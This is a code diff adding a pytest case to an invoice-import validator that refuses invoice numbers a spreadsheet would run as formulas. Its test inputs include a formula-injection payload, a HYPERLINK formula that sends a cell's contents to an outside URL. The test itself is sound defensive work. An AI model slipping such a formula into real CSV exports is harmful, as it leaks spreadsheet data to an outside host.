@@ -263,6 +263,22 @@ def test_missing_invoice_number(tmp_path):
     assert p.mapping == _where(JSON_MAPPING, "number: number", "bindings.invoice.number")
 
 
+@pytest.mark.parametrize("number", ['=HYPERLINK("http://example.org/?x="&A2;"FA")',
+                                    "+FA-2026-00104", "-FA-2026-00104", "@FA-2026-00104"])
+def test_an_invoice_number_a_spreadsheet_would_run_as_a_formula_is_refused(tmp_path, number):
+    """The payment references CSV beside the PES file carries the invoice number as is:
+    '=HYPERLINK(...)' in it was a formula for the spreadsheet the school opens it in."""
+    data = _example()
+    i = _index(data, "FA-2026-00104")
+    data["invoices"][i]["number"] = number
+    inp = _write_json(tmp_path, data)
+    p = _only(_refused(tmp_path, JSON_MAPPING, inp), "input.invoice-number")
+    assert p.record == f"{inp}:$.invoices[{i}]"
+    assert p.message == (f"invoice number starts with {number[0]!r}, which a spreadsheet "
+                         "opening the payment references CSV would take for a formula")
+    assert p.mapping == _where(JSON_MAPPING, "number: number", "bindings.invoice.number")
+
+
 def test_missing_line_amount(tmp_path):
     data = _example()
     i = _index(data, "FA-2026-00104")
